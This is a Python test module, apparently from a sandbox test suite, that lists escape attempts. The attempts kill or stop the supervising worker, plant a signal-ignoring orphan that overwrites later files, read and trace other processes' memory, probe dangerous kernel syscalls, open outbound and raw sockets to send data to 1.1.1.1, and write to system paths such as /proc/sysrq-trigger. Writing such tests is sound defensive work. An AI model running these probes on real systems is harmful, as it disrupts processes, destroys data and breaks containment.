"""Attacks on the walls: the worker, the processes to come, the network, the file system."""

from __future__ import annotations

from grader.model import Outcome
from tests.hostile.attack import Attack


def _in_forward(body: str) -> str:
    lines = "\n".join(f"    {line}" for line in body.strip().splitlines())
    return f"""
import os, signal

def forward(self, x):
{lines}
    return x

SoftMaxLayer.forward = forward
"""


_WORKER_STRUCK = """
import os, signal

struck = 0

def strike(pid, number):
    global struck
    try:
        os.kill(pid, number)
        struck += 1
    except OSError:
        pass
"""

ESCAPING = (
    Attack(
        name="worker-killed",
        tries="The worker that would report on the process is killed, by every signal there is.",
        code=_WORKER_STRUCK
        + """
for number in signal.valid_signals():
    strike(os.getppid(), number)
print("CANARY: struck the worker", struck, "times", flush=True)
""",
    ),
    Attack(
        name="worker-stopped",
        tries="The worker is stopped, so that it neither reports nor ends.",
        code=_WORKER_STRUCK
        + """
strike(os.getppid(), signal.SIGSTOP)
strike(1, signal.SIGSTOP)
print("CANARY: struck the worker", struck, "times", flush=True)
""",
    ),
    Attack(
        name="worker-starved",
        tries="The worker is left without files, time and memory: its limits are lowered.",
        code="""
import os, resource

for which in (resource.RLIMIT_NOFILE, resource.RLIMIT_CPU, resource.RLIMIT_AS):
    try:
        resource.prlimit(os.getppid(), which, (0, 0))
        print("GAINED: a limit of the worker's", flush=True)
    except OSError:
        continue
print("CANARY: lowered limits", flush=True)
""",
    ),
    Attack(
        name="everything-killed",
        tries="Every process in sight is killed.",
        code=_WORKER_STRUCK
        + """
for number in (signal.SIGTERM, signal.SIGKILL):
    victim = os.fork()
    if victim == 0:
        while True:
            signal.pause()
    strike(-1, number)
    os.waitpid(victim, 0)
print("CANARY: killed all", struck, "times", flush=True)
""",
    ),
    Attack(
        name="self-stopped",
        tries="The process stops itself.",
        code=_in_forward(
            'print("CANARY: stops", flush=True)\nos.kill(os.getpid(), signal.SIGSTOP)'
        ),
        outcome=Outcome.TIMEOUT,
        limits={"case_seconds": 1.0, "lost_processes": 1},
        harmless=True,
    ),
    Attack(
        name="descriptors-closed",
        tries="Every file descriptor is closed, the connection among them.",
        code=_in_forward('print("CANARY: closes all", flush=True)\nos.closerange(0, 256)'),
        outcome=Outcome.CRASHED,
        harmless=True,
    ),
    Attack(
        name="orphan",
        tries="A process in a session of its own waits for its item to end, then spoils the files "
        "of the next one and speaks in its place.",
        code="""
import os, signal, time

item = os.getpid()
if os.fork() == 0:
    os.setsid()
    if os.fork():
        os._exit(0)
    for number in signal.valid_signals() - {signal.SIGKILL, signal.SIGSTOP}:
        try:
            signal.signal(number, signal.SIG_IGN)
        except OSError:
            continue
    print("CANARY: an orphan waits", flush=True)
    while os.path.exists(f"/proc/{item}"):
        time.sleep(0.001)
    while True:
        for name in os.listdir("layers"):
            with open(f"layers/{name}", "w") as file:
                file.write("print('GAINED: an orphan outlived its item', flush=True)")
else:
    # Until the orphan has said so.
    time.sleep(0.1)
""",
    ),
    Attack(
        name="worker-taken-over",
        tries="The worker's memory and open files, to live on in it from item to item.",
        code="""
import ctypes, os

worker = os.getppid()
libc = ctypes.CDLL(None, use_errno=True)
pidfd = os.pidfd_open(worker)
steps = {
    "memory": lambda: open(f"/proc/{worker}/mem", "r+b", buffering=0),
    "files": lambda: os.listdir(f"/proc/{worker}/fd"),
    "folder": lambda: os.listdir(f"/proc/{worker}/root"),
    "environment": lambda: open(f"/proc/{worker}/environ").read(),
}
for name, step in steps.items():
    try:
        step()
    except OSError:
        continue
    print("GAINED:", name, "of the worker's", flush=True)
PTRACE_SEIZE, PIDFD_GETFD = 0x4206, 438
if libc.ptrace(PTRACE_SEIZE, worker, 0, 0) == 0:
    print("GAINED: traces the worker", flush=True)
if libc.syscall(PIDFD_GETFD, pidfd, 3, 0) >= 0:
    print("GAINED: a file descriptor of the worker's", flush=True)
print("CANARY: reached for the worker", flush=True)
""",
    ),
    Attack(
        name="first-process-taken-over",
        tries="The namespace's first process, which has the same user: its memory is written to, "
        "so that code lives on in it from item to item.",
        code="""
import os

for place, reach in {
    "memory": lambda: open("/proc/1/mem", "r+b", buffering=0).read(1),
    "maps": lambda: open("/proc/1/maps").read(),
    "environment": lambda: open("/proc/1/environ").read(),
    "files": lambda: os.listdir("/proc/1/fd"),
    "root": lambda: os.listdir("/proc/1/root"),
    "threads": lambda: open("/proc/1/task/1/mem", "r+b", buffering=0).read(1),
}.items():
    try:
        if reach():
            print("GAINED:", place, "of process 1", flush=True)
    except OSError:
        continue
print("CANARY: reached for process 1, the worker" if os.getppid() == 1 else "", flush=True)
""",
    ),
    Attack(
        name="kernel-doors",
        tries="Calls of the kernel's that no lesson needs and that escapes have been made of.",
        code="""
import ctypes, os, platform

libc = ctypes.CDLL(None, use_errno=True)
x86 = platform.machine() == "x86_64"
CALLS = {
    "io_uring_setup": (425, 8, ctypes.create_string_buffer(256)),
    "keyctl": (250 if x86 else 219, 0, -3, 0),
    "add_key": (248 if x86 else 217, b"user", b"nn", b"x", 1, -3),
    "ptrace": (101 if x86 else 117, 0, 0, 0, 0),
    "process_vm_readv": (310 if x86 else 270, os.getpid(), None, 0, None, 0, 0),
    "bpf": (321 if x86 else 280, 0, None, 0),
    "userfaultfd": (323 if x86 else 282, 1),
    "perf_event_open": (298 if x86 else 241, ctypes.create_string_buffer(128), 0, -1, -1, 0),
    "unshare": (272 if x86 else 97, 0),
    "setns": (308 if x86 else 268, 0, 0),
    "mount": (165 if x86 else 40, None, b"/tmp", b"tmpfs", 0, None),
    "chroot": (161 if x86 else 51, b"/tmp"),
    "fsopen": (430, b"tmpfs", 0),
    "open_tree": (428, -100, b"/tmp", 0),
    "memfd_secret": (447, 0),
    "name_to_handle_at": (303 if x86 else 264, -100, b"/", None, None, 0),
    "syslog": (103 if x86 else 116, 3, ctypes.create_string_buffer(8), 8),
    "quotactl": (179 if x86 else 60, 0, None, 0, None),
    "personality": (135 if x86 else 92, 0x0040000),
    "shmget": (29 if x86 else 194, 0, 4096, 0o1600),
    "pidfd_getfd": (438, 0, 0, 0),
}
EPERM, ENOSYS = 1, 38
for name, arguments in CALLS.items():
    ctypes.set_errno(0)
    done = libc.syscall(*arguments)
    if done >= 0 or ctypes.get_errno() not in (EPERM, ENOSYS):
        print("GAINED:", name, done, ctypes.get_errno(), flush=True)
print("CANARY: knocked at", len(CALLS), "doors", flush=True)
""",
    ),
    Attack(
        name="socket-families",
        tries="Sockets of every family there is but the one of the bridge, vsock among them.",
        code="""
import socket

made = []
for family in range(64):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_SEQPACKET):
        try:
            socket.socket(family, kind).close()
        except OSError:
            continue
        made.append(family)
if {*made} != {socket.AF_UNIX}:
    print("GAINED: sockets of the families", sorted({*made}), flush=True)
try:
    with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM) as out:
        out.connect((socket.VMADDR_CID_HOST, 1))
    print("GAINED: vsock", flush=True)
except OSError:
    pass
print("CANARY: tried 64 families", flush=True)
""",
    ),
    Attack(
        name="network",
        tries="A way out: TCP and UDP over IPv4 and IPv6, a name looked up, a raw socket.",
        code="""
import socket

def tcp(family, address):
    with socket.socket(family, socket.SOCK_STREAM) as out:
        out.settimeout(1)
        out.connect((address, 53))

def udp(family, address):
    with socket.socket(family, socket.SOCK_DGRAM) as out:
        out.sendto(b"hidden values", (address, 53))

steps = {
    "tcp": lambda: tcp(socket.AF_INET, "1.1.1.1"),
    "udp": lambda: udp(socket.AF_INET, "1.1.1.1"),
    "tcp6": lambda: tcp(socket.AF_INET6, "2606:4700:4700::1111"),
    "udp6": lambda: udp(socket.AF_INET6, "2606:4700:4700::1111"),
    "the bridge's host": lambda: tcp(socket.AF_INET, "172.17.0.1"),
    "dns": lambda: socket.getaddrinfo("example.org", 80),
    "raw": lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
    "packet": lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW),
}
for name, step in steps.items():
    try:
        step()
    except OSError:
        continue
    print("GAINED:", name, flush=True)
print("CANARY: tried", len(steps), "ways out", flush=True)
""",
    ),
    Attack(
        name="writes-outside",
        tries="Any file outside its own two folders: made, changed, or mounted over.",
        code="""
import ctypes, os, sys

tried = 0
for folder in ("/", "/usr", "/usr/bin", "/etc", "/var", "/opt", "/opt/worker", "/runtime",
               "/runtime/worker/grader", "/bridge", "/dev", "/dev/shm", "/proc/sys/kernel", "/home",
               "/root", "/run", "/srv", "/mnt", "/sys/fs/cgroup", "/sys/fs/cgroup/memory",
               os.path.dirname(np.__file__), os.path.dirname(os.__file__), sys.prefix):
    tried += 1
    try:
        open(os.path.join(folder, "written"), "w").close()
    except OSError:
        continue
    print("GAINED: wrote to", folder, flush=True)
for path in (np.__file__, os.__file__, "/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger",
             sys.modules["grader.bridge.frames"].__file__):
    tried += 1
    try:
        open(path, "a").close()
    except OSError:
        continue
    print("GAINED: changed", path, flush=True)
libc = ctypes.CDLL(None)
if libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0 or libc.unshare(0x10000000) == 0:
    print("GAINED: mounts", flush=True)
if os.getuid() == 0 or os.geteuid() == 0:
    print("GAINED: is root", flush=True)
print("CANARY: tried", tried, "files", flush=True)
""",
    ),
)
